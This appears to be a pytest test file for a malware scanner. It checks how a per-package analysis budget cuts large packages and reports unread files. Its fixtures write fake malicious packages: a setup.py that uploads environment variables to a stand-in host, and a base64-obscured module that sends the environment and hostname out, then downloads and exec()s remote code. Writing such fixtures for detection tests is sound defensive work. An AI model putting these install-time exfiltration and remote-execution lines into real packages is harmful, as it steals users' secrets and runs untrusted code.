"""The package work budget (issue 14 part 2): a package too big to read whole is judged on what was read.

The features stage counts the parse and work units of every file it reads against one package
budget (`PACKAGE_WORK_UNITS`), reads the install and import path first, and lists the files it did
not read. These tests shrink the budget (a real one takes tens of megabytes of source to fill) and
check: the verdict comes from the files read, the cut is shown in every report format, the cut
falls at the same file whatever the CPU-seconds deadline, and the reading order never changes
what an uncut package's analysis is.
"""

from __future__ import annotations

import json
from pathlib import Path

import jsonschema
import pytest

from malseq._deadline import Deadline
from malseq.features import analyse_package, budget
from malseq.features.budget import FILE_WORK_UNITS, PackageWorkBudget, WorkBudget
from malseq.features.order import ReadingOrder
from malseq.features.types import FileAnalysis
from malseq.intake import IntakeOptions, load_target
from malseq.intake.package import Package
from malseq.intake.targets import LocalTarget
from malseq.report.json_report import render_json
from malseq.report.json_schema import report_schema
from malseq.report.sarif import render_sarif
from malseq.report.text import render_text
from malseq.scan import ScanOptions, scan

# An ordinary module: classes, calls, string literals; about 20 KB, a few thousand parse units.
PADDING = "".join(
    f"class Model{i}:\n"
    f"    def __init__(self, value, scale={i % 7}):\n"
    f"        self.value = value\n"
    f"        self.label = 'model-{i}-' + str(scale)\n\n"
    f"    def run(self, items):\n"
    f"        return [self.value * item for item in items if item.get('k{i}')]\n\n\n"
    for i in range(100))
PADDED_FILES = 60
SMALL_BUDGET = 200_000  # units: a handful of the padding modules


def _padded_package(root: Path, padded: int = PADDED_FILES) -> Path:
    """A PyPI sdist whose setup.py uploads the environment, with `padded` modules under `lib/`
    (sorted before `setup.py`) and one module setup.py imports."""
    (root / "lib").mkdir(parents=True)
    (root / "setup.py").write_text(
        "import os\nimport urllib.request\nfrom setuptools import setup\nimport helper\n\n"
        "urllib.request.urlopen('https://collector.example/c', data=repr(dict(os.environ)).encode())\n"
        "setup(name='padded-demo', version='1.0', packages=['lib'])\n")
    (root / "helper.py").write_text("import base64\nTOKEN = base64.b64decode('aGVsbG8=')\n")
    (root / "lib" / "__init__.py").write_text("")
    for i in range(padded):
        (root / "lib" / f"mod_{i:02}.py").write_text(PADDING)
    return root


def _load(root: Path) -> Package:
    return load_target(LocalTarget(root), IntakeOptions(), Deadline(120))


def test_a_padded_package_is_judged_on_the_files_read_and_the_cut_is_shown(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _padded_package(tmp_path / "pkg")
    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", SMALL_BUDGET)
    (result,) = scan([str(root)], ScanOptions(isolate=False))
    assert result.error is None and result.analysis is not None and result.score is not None
    unread = result.analysis.unread
    read = [f.path for f in result.analysis.files]
    assert 0 < len(unread) < PADDED_FILES and set(read).isdisjoint(unread)
    assert {"setup.py", "helper.py", "lib/__init__.py"} <= set(read)  # the install and import path
    assert all(p.startswith("lib/mod_") for p in unread)
    assert unread == tuple(sorted(unread))  # the rest is read in the package's order, the cut at its end
    assert result.verdict == "malicious"
    assert {"read_env", "upload_data"} <= {e.behaviour for e in result.analysis.all_events()}

    text = render_text([result], show_features=False, show_sequence=False)
    assert f"analysis budget exhausted: {len(unread)} files not read, e.g. {unread[0]}" in text
    assert f"{len(unread)} file(s) NOT READ (analysis budget exhausted)" in text

    (entry,) = json.loads(render_json([result]))
    assert entry["unread_files"] == {"count": len(unread), "first": list(unread[:20]),
                                     "import_path": {"count": 0, "first": []}}  # lib/mod_* are imported by nothing
    jsonschema.validate([entry], report_schema())

    sarif = json.loads(render_sarif([result]))
    (alert,) = [r for r in sarif["runs"][0]["results"] if r["ruleId"] == "malicious-package"]
    assert alert["properties"]["unreadFiles"] == len(unread)
    assert alert["properties"]["unreadFilesFirst"] == list(unread[:20])
    assert f"analysis budget exhausted: {len(unread)} file(s) not read" in alert["message"]["text"]


def test_the_cut_falls_at_the_same_file_whatever_the_cpu_seconds_deadline(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    package = _load(_padded_package(tmp_path / "pkg"))
    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", SMALL_BUDGET)
    outcomes = []
    for deadline in (Deadline.unlimited(), Deadline(60), Deadline(1e9)):
        spent = PackageWorkBudget()
        analysis = analyse_package(package, deadline, spent)
        outcomes.append((analysis.unread, [(f.path, f.events, f.calls) for f in analysis.files], spent.used))
    assert outcomes[0][0]  # cut
    assert outcomes[1] == outcomes[0] and outcomes[2] == outcomes[0]
    # the first file past the budget is the one not read: the package budget is checked between files
    assert SMALL_BUDGET <= outcomes[0][2] < SMALL_BUDGET + 2 * FILE_WORK_UNITS


def test_an_uncut_package_is_analysed_the_same_whatever_the_reading_order(tmp_path: Path) -> None:
    package = _load(_padded_package(tmp_path / "pkg", padded=6))
    analysis = analyse_package(package, Deadline(120))
    assert analysis.unread == ()
    # the files in the package's own order, each analysed as on its own (what analyses were before)
    from malseq.features import analyse_file

    paths = frozenset(f.path for f in package.files)
    alone = [analyse_file(f, Deadline(120), paths) for f in package.source_files]
    assert [f.path for f in analysis.files] == [f.path for f in package.source_files]
    assert list(analysis.files) == [replace_seconds(a, b) for a, b in zip(alone, analysis.files, strict=True)]


def replace_seconds(alone: FileAnalysis | None, read: FileAnalysis) -> FileAnalysis:
    """`alone` with the timing of `read` (seconds are the one field that may differ)."""
    from dataclasses import replace

    assert alone is not None
    return replace(alone, seconds=read.seconds)


def test_the_install_and_import_path_is_read_first(tmp_path: Path) -> None:
    root = tmp_path / "py"
    (root / "aaa").mkdir(parents=True)
    (root / "mypkg").mkdir()
    (root / "aaa" / "first.py").write_text("x = 1\n")
    (root / "setup.py").write_text("from setuptools import setup\nfrom tools.build import run\nsetup(name='mypkg')\n")
    (root / "tools").mkdir()
    (root / "tools" / "__init__.py").write_text("")
    (root / "tools" / "build.py").write_text("from . import steps\n")
    (root / "tools" / "steps.py").write_text("y = 2\n")
    (root / "mypkg" / "__init__.py").write_text("from .core import main\n")
    (root / "mypkg" / "core.py").write_text("def main():\n    pass\n")
    package = _load(root)
    order = ReadingOrder(package)
    seen: list[str] = []
    for _index, f, _tier in order:
        seen.append(f.path)
        analysis = analyse_package_file(package, f.path)
        if analysis is not None:
            order.imports_of(analysis)
    assert seen[:5] == ["setup.py", "tools/__init__.py", "tools/build.py", "tools/steps.py", "mypkg/__init__.py"]
    assert seen.index("mypkg/core.py") < seen.index("aaa/first.py")
    assert sorted(seen) == sorted(f.path for f in package.source_files)


def analyse_package_file(package: Package, path: str) -> FileAnalysis | None:
    from malseq.features import analyse_file

    f = package.file(path)
    assert f is not None
    return analyse_file(f, Deadline(120), frozenset(p.path for p in package.files))


def test_npm_lifecycle_script_targets_and_main_are_read_first(tmp_path: Path) -> None:
    root = tmp_path / "js"
    (root / "aaa").mkdir(parents=True)
    (root / "aaa" / "first.js").write_text("var x = 1;\n")
    (root / "package.json").write_text(json.dumps({
        "name": "order-demo", "version": "1.0.0", "main": "lib/main.js",
        "scripts": {"postinstall": "npm run setup", "setup": "node scripts/install.js", "test": "node aaa/first.js"}}))
    (root / "scripts").mkdir()
    (root / "scripts" / "install.js").write_text("require('./util');\n")
    (root / "scripts" / "util.js").write_text("module.exports = 1;\n")
    (root / "lib").mkdir()
    (root / "lib" / "main.js").write_text("module.exports = {};\n")
    package = _load(root)
    order = ReadingOrder(package)
    seen = []
    for _index, f, _tier in order:
        seen.append(f.path)
        analysis = analyse_package_file(package, f.path)
        assert analysis is not None
        order.imports_of(analysis)
    assert seen == ["scripts/install.js", "scripts/util.js", "lib/main.js", "aaa/first.js"]


def test_a_share_reports_its_units_to_the_package_budget_once() -> None:
    package_budget = PackageWorkBudget(1_000)
    work = WorkBudget(500, meter=package_budget)
    work.spend(10)
    share = work.share(0.5)
    share.spend(20)
    nested = WorkBudget(100, meter=work.meter)  # a file's own second allowance (python file-level checks)
    nested.spend(5)
    assert (work.used, share.used, nested.used) == (30, 20, 5)
    assert package_budget.used == 35
    package_budget.charge(965)
    assert package_budget.exhausted


def _reviewer_package(root: Path, setup_import: str = "import zpayload\n") -> Path:
    """The review's shape: setup.py imports 60 heavy padding modules, then the payload module (an
    environment upload); a top-level package `demo` (the import path) and a folder nothing imports."""
    (root / "lib").mkdir(parents=True)
    (root / "lib" / "__init__.py").write_text("")
    for i in range(PADDED_FILES):
        (root / "lib" / f"mod_{i:02}.py").write_text(PADDING)
    (root / "setup.py").write_text(
        "from setuptools import setup\n"
        + "".join(f"import lib.mod_{i:02}\n" for i in range(PADDED_FILES))
        + setup_import
        + "setup(name='padded-demo', version='1.0', packages=['demo'])\n")
    (root / "zpayload.py").write_text(
        "import base64\nimport os\nimport socket\nimport urllib.request\n\n"
        "url = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS9j').decode()\n"
        "info = {'env': dict(os.environ), 'host': socket.gethostname()}\n"
        "urllib.request.urlopen(url, data=repr(info).encode())\n"
        "exec(base64.b64decode(urllib.request.urlopen(url + '/s').read()))\n")
    (root / "demo").mkdir()
    (root / "demo" / "__init__.py").write_text("from .core import run\n")
    (root / "demo" / "core.py").write_text(PADDING)
    (root / "extra").mkdir()
    for i in range(3):
        (root / "extra" / f"pad_{i}.py").write_text(PADDING)
    return root


def test_padding_imported_before_an_install_time_payload_does_not_push_it_past_the_cut(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = _reviewer_package(tmp_path / "pkg")
    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", SMALL_BUDGET)
    (result,) = scan([str(root)], ScanOptions(isolate=False))
    assert result.error is None and result.analysis is not None
    read = {f.path for f in result.analysis.files}
    # the whole install path is read although it alone is over the budget; the cut takes the rest only
    assert {"setup.py", "zpayload.py", "lib/__init__.py"} | {f"lib/mod_{i:02}.py" for i in range(PADDED_FILES)} <= read
    assert "demo/__init__.py" in result.analysis.unread and "extra/pad_0.py" in result.analysis.unread
    # which unread files would run at import time: the package's __init__ (its imports were never seen)
    assert result.analysis.unread_import_path == ("demo/__init__.py",)
    assert set(result.analysis.unread_import_path) <= set(result.analysis.unread)
    payload = result.analysis.file("zpayload.py")
    assert payload is not None and {"read_env", "upload_data"} <= {e.behaviour for e in payload.events}
    assert result.verdict == "malicious"
    # judged as if nothing were cut: the cut files add no step (the padding and demo/ do nothing)
    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", 10**9)
    (whole,) = scan([str(root)], ScanOptions(isolate=False))
    assert whole.analysis is not None and whole.analysis.unread == ()
    assert result.sequence is not None and whole.sequence is not None
    assert result.sequence.steps == whole.sequence.steps and result.score == whole.score

    (entry,) = json.loads(render_json([result]))
    assert entry["unread_files"]["import_path"] == {"count": 1, "first": ["demo/__init__.py"]}
    jsonschema.validate([entry], report_schema())
    from malseq.serve.view import _unread

    assert _unread(entry["unread_files"]).startswith(f"{len(result.analysis.unread)} (1 on the import path): ")
    assert "(1 on the import path, e.g. demo/__init__.py)" in render_text([result], show_features=False,
                                                                          show_sequence=False)


def test_a_benign_package_with_unread_files_leaves_a_note_in_sarif(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "report"))
    from github_sarif import github_upload_problems

    root = _reviewer_package(tmp_path / "pkg", setup_import="")
    (root / "zpayload.py").unlink()
    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", SMALL_BUDGET)
    (result,) = scan([str(root)], ScanOptions(isolate=False))
    assert result.error is None and result.analysis is not None and result.analysis.unread
    assert result.verdict != "malicious"
    serialized = render_sarif([result])
    doc = json.loads(serialized)
    assert github_upload_problems(doc, serialized) == []
    run = doc["runs"][0]
    (note,) = [r for r in run["results"] if r["ruleId"] == "analysis-incomplete"]
    assert note["level"] == "note"
    assert note["properties"]["unreadFiles"] == len(result.analysis.unread)
    assert note["properties"]["unreadImportPath"] == 1
    assert note["properties"]["unreadImportPathFirst"] == ["demo/__init__.py"]
    assert f"{len(result.analysis.unread)} file(s) not read" in note["message"]["text"]
    assert "analysis-incomplete" in {rule["id"] for rule in run["tool"]["driver"]["rules"]}
    # an uncut run lists neither the result nor its rule
    monkeypatch.setattr(budget, "PACKAGE_WORK_UNITS", 10**9)
    (whole,) = scan([str(root)], ScanOptions(isolate=False))
    assert whole.analysis is not None and whole.analysis.unread == ()
    clean_run = json.loads(render_sarif([whole]))["runs"][0]
    assert "analysis-incomplete" not in {r["ruleId"] for r in clean_run["results"]}
    assert "analysis-incomplete" not in {rule["id"] for rule in clean_run["tool"]["driver"]["rules"]}
